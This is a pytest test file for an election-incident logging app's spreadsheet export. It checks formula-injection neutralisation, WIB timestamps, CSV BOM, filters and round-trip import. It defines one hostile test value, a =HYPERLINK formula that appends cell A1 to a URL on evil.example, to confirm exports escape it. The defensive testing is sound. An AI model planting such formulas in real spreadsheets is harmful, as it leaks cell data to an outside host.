"""Export of the (filtered) log: counts equal the database, formula injection neutralised,
WIB times, UTF-8 with BOM for CSV, and an export reads back without duplicates."""

from __future__ import annotations

import csv
import os
import stat
from datetime import date, datetime

import openpyxl
import pytest

from posko_desktop.core.context import AppContext
from posko_desktop.core.db.session import open_database
from posko_desktop.core.domain import Actor, PermissionDenied
from posko_desktop.core.progress import Cancelled, Progress
from posko_desktop.core.services import incidents as inc
from posko_desktop.core.services import reference
from posko_desktop.core.services.incidents import IncidentFilter, IncidentInput
from posko_desktop.core.services.spreadsheet_import import import_spreadsheet
from posko_desktop.core.spreadsheets import export_log, exporter
from posko_desktop.core.spreadsheets.exporter import ExportError
from posko_desktop.core.spreadsheets.files import FileWriteError

from .helpers import dump, sql

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def _add(ctx, **kw):
    values = dict(regency_code="33.22", title="Hoaks surat suara", category_code="A1",
                  severity="tinggi", occurred_at=datetime(2024, 11, 26, 20, 30),
                  reported_at=datetime(2024, 11, 26, 21, 0), source_type="media_sosial")
    values.update(kw)
    return inc.create_incident(ctx, IncidentInput(**values))


@pytest.fixture
def log(ctx):
    _add(ctx, title=HOSTILE, location="+62 812 3456 7890", description="-5 orang\nluka",
         source_detail="@akun_provokator", people_involved=4)
    _add(ctx, regency_code="33.74", title="Serangan fajar", category_code="B2", severity="kritis",
         occurred_at=datetime(2024, 11, 27, 0, 15), reported_at=datetime(2024, 11, 27, 1, 0))
    _add(ctx, regency_code="33.74", title="Spanduk dirusak", category_code="E1",
         severity="rendah", occurred_at=datetime(2024, 11, 25, 9, 0))
    gone = _add(ctx, regency_code="33.74", title="Salah input", category_code="G9",
                severity="rendah")
    inc.set_deleted(ctx, gone.id, True, "duplikat")
    return ctx


def test_xlsx_export_neutralises_formulas_and_counts_equal_the_db(log, tmp_path, db_path):
    result = export_log(log, IncidentFilter(), tmp_path / "log.xlsx", "xlsx")
    assert result.rows == sql(db_path, "SELECT count(*) FROM incident WHERE deleted = 0") == 3
    wb = openpyxl.load_workbook(tmp_path / "log.xlsx")
    ws = wb.active
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 3
    headers = [c.value for c in ws[1]]
    first = dict(zip(headers, rows[-1], strict=True))  # newest first: the oldest is last
    hostile = dict(zip(headers, next(r for r in rows if "HYPERLINK" in str(r[9])), strict=True))
    assert hostile["Judul"] == "'" + HOSTILE
    assert hostile["Lokasi"] == "'+62 812 3456 7890"
    assert hostile["Uraian"] == "'-5 orang\nluka"
    assert hostile["Jumlah orang terlibat"] == 4
    # no cell of the workbook is a formula
    for r in ws.iter_rows(min_row=1):
        for cell in r:
            assert cell.data_type != "f"
    assert first["Kabupaten/Kota"] == "33.74 Kota Semarang"
    assert first["Waktu kejadian (WIB)"] == datetime(2024, 11, 25, 9, 0)  # WIB wall time
    assert first["Kategori"] == "E1 Perusakan/pencopotan APK"
    assert first["Tingkat keparahan"] == "Rendah" and first["Status"] == "Baru"
    assert ws["C2"].number_format == "dd-mm-yyyy hh:mm"


def test_csv_export_has_bom_wib_times_and_neutralised_cells(log, tmp_path):
    export_log(log, IncidentFilter(), tmp_path / "log.csv", "csv")
    raw = (tmp_path / "log.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines(keepends=True)))
    assert len(rows) == 3
    hostile = next(r for r in rows if "HYPERLINK" in r["Judul"])
    assert hostile["Judul"] == "'" + HOSTILE and hostile["Lokasi"].startswith("'+62")
    assert hostile["Rincian sumber / URL"] == "'@akun_provokator"
    assert hostile["Waktu kejadian (WIB)"] == "2024-11-26 20:30"
    dawn = next(r for r in rows if r["Judul"] == "Serangan fajar")
    assert dawn["Waktu kejadian (WIB)"] == "2024-11-27 00:15"  # still 26 Nov in UTC


def test_filters_are_those_of_the_log(log, tmp_path, db_path):
    flt = IncidentFilter(regencies=("33.74",), date_from=date(2024, 11, 26),
                         date_to=date(2024, 11, 27))
    result = export_log(log, flt, tmp_path / "f.csv", "csv", csv_delimiter=";")
    assert result.rows == inc.count_incidents(log, flt) == 1
    text = (tmp_path / "f.csv").read_text(encoding="utf-8-sig")
    assert "Serangan fajar" in text and ";" in text.splitlines()[0]
    by_severity = export_log(log, IncidentFilter(severities=("rendah",)), tmp_path / "r.xlsx", "xlsx")
    assert by_severity.rows == sql(
        db_path, "SELECT count(*) FROM incident WHERE severity='rendah' AND deleted=0") == 1
    deleted = export_log(log, IncidentFilter(deleted_only=True), tmp_path / "d.csv", "csv")
    assert deleted.rows == sql(db_path, "SELECT count(*) FROM incident WHERE deleted=1") == 1
    searched = export_log(log, IncidentFilter(text="spanduk"), tmp_path / "s.csv", "csv")
    assert searched.rows == 1


def test_an_export_reads_back_without_duplicates(log, tmp_path, db_path):
    export_log(log, IncidentFilter(), tmp_path / "log.xlsx", "xlsx")
    export_log(log, IncidentFilter(), tmp_path / "log.csv", "csv")
    before = dump(db_path)
    for name in ("log.xlsx", "log.csv"):
        report = import_spreadsheet(log, tmp_path / name)
        assert report.problems == [] and report.imported == []
        assert len(report.already_imported) == 3
    assert dump(db_path) == before


def test_an_export_imports_into_another_database_with_equal_values(log, tmp_path, db_path):
    export_log(log, IncidentFilter(), tmp_path / "log.xlsx", "xlsx")
    other_db = open_database(tmp_path / "other.sqlite3", create=True)
    try:
        other = AppContext(other_db, Actor("admin", "admin", "Admin"))
        reference.init_site(other, "33.74", "Posko Kota Semarang")
        report = import_spreadsheet(other, tmp_path / "log.xlsx")
        assert report.problems == [] and len(report.imported) == 3
        got = {inc.get_incident(other, r.id).title for r in report.imported}
        assert got == {HOSTILE, "Serangan fajar", "Spanduk dirusak"}  # apostrophes removed
    finally:
        other_db.dispose()


def test_refused_exports_leave_no_file(log, tmp_path):
    operatorless = log.as_actor(Actor("tamu", "guest", "Tamu"))
    with pytest.raises(PermissionDenied):
        export_log(operatorless, IncidentFilter(), tmp_path / "x.csv", "csv")
    with pytest.raises(ExportError):
        export_log(log, IncidentFilter(), tmp_path / "x.ods", "ods")
    with pytest.raises(ExportError):
        export_log(log, IncidentFilter(), tmp_path, "csv")
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix in (".csv", ".ods")) == []


def test_cancelled_export_leaves_no_partial_file(log, tmp_path, monkeypatch):
    monkeypatch.setattr(exporter, "BATCH", 1)
    progress = Progress(lambda done, total, msg: progress.cancel())
    with pytest.raises(Cancelled):
        export_log(log, IncidentFilter(), tmp_path / "log.xlsx", "xlsx", progress=progress)
    assert [p.name for p in tmp_path.iterdir() if "sqlite" not in p.name] == []


def test_unwritable_target_is_a_clear_error(log, tmp_path):
    blocker = tmp_path / "berkas"
    blocker.write_text("bukan folder")
    with pytest.raises(FileWriteError) as err:
        export_log(log, IncidentFilter(), blocker / "log.csv", "csv")
    assert "Cannot write" in err.value.text_in("en")
    assert blocker.read_text() == "bukan folder"


def test_exported_file_has_the_usual_permissions(log, tmp_path):
    mask = os.umask(0o022)
    try:
        export_log(log, IncidentFilter(), tmp_path / "log.csv", "csv")
    finally:
        os.umask(mask)
    assert stat.S_IMODE((tmp_path / "log.csv").stat().st_mode) == 0o644
